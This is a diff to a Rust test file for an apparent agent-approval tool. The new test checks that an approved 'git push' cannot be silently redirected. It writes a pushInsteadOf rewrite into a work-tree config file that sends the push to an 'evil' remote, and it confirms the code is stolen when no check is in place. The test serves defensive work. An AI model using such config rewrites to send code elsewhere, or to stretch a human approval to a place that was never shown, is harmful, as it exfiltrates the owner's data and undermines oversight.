@@ -189,7 +189,7 @@ fn p14_the_question_says_which_variables_differ() {
         let config = format!("KUBECONFIG={}", repo.path().join("k").display());
         for part in [
             config.as_str(),
-            "and 2 more variables",
+            "and 2 more variables differ",
             "AGENT_MARK=1",
             "a↵b",
         ] {
@@ -209,5 +209,70 @@ fn p14_the_question_says_which_variables_differ() {
             json.contains("AGENT_MARK=1") && !json.contains("hunter2"),
             "{json}"
         );
+    });
+}
+
+/// A question about a push says where it goes, and an answer is for that place.
+#[test]
+fn p14_a_push_is_allowed_to_the_place_that_was_shown() {
+    for_each_user(|env| {
+        let repo = env.repo();
+        let remotes = Remotes::new(env, "shop");
+        // Settings that the owner keeps in the work tree can be changed by the agent.
+        repo.git(env, &["config", "include.path", "../lab.cfg"])
+            .assert_success();
+        let push = "git push -q --force origin HEAD:refs/heads/p14";
+        let rewrite = format!(
+            "printf '[url \"%s\"]\\n\\tpushInsteadOf = %s\\n' '{}' '{}' > lab.cfg",
+            remotes.evil.display(),
+            repo.origin().display()
+        );
+        // Control: without the boundary it goes elsewhere.
+        env.shell(repo.path(), &format!("{rewrite}; {push}; rm lab.cfg"))
+            .assert_success();
+        assert!(remotes.stolen("p14"));
+        fs::remove_file(remotes.evil.join("refs/heads/p14")).expect("it was just there");
+        let shown = std::cell::RefCell::new(Vec::new());
+        let first = first_only("HEAD:refs/heads/p14");
+        let choose = |asked: &Asked| {
+            let output = env
+                .stockade()
+                .args(["approvals", "show", &asked.id])
+                .success();
+            shown.borrow_mut().push(output.stdout);
+            first(asked)
+        };
+        // Another commit is no other meaning; another place is.
+        let line =
+            format!("{push}; git commit -q --allow-empty -m two; {push}; {rewrite}; {push}; :");
+        let asked = run(env, repo.path(), &remotes.policy, &line, choose);
+        let all = events::summary(&env.record());
+        assert_eq!(
+            about(&asked, "HEAD:refs/heads/p14").len(),
+            2,
+            "{asked:#?}\n{all}"
+        );
+        assert!(!remotes.stolen("p14"), "{all}");
+        let there = fs::read_to_string(repo.origin().join("refs/heads/p14"));
+        assert_eq!(
+            there.expect("it was pushed").trim(),
+            repo.commit(env, "HEAD")
+        );
+        let shown = shown.into_inner();
+        let pushes: Vec<&String> = shown
+            .iter()
+            .filter(|text| text.contains("run       git push"))
+            .collect();
+        for (text, place) in pushes.iter().zip([repo.origin(), &remotes.evil]) {
+            let to = format!("to        {}", place.display());
+            for part in [
+                to.as_str(),
+                "refs/heads/main → refs/heads/p14",
+                "commits   ",
+                "! force   commits that are only there can be lost",
+            ] {
+                assert!(text.contains(part), "{part}: {text}");
+            }
+        }
     });
 }
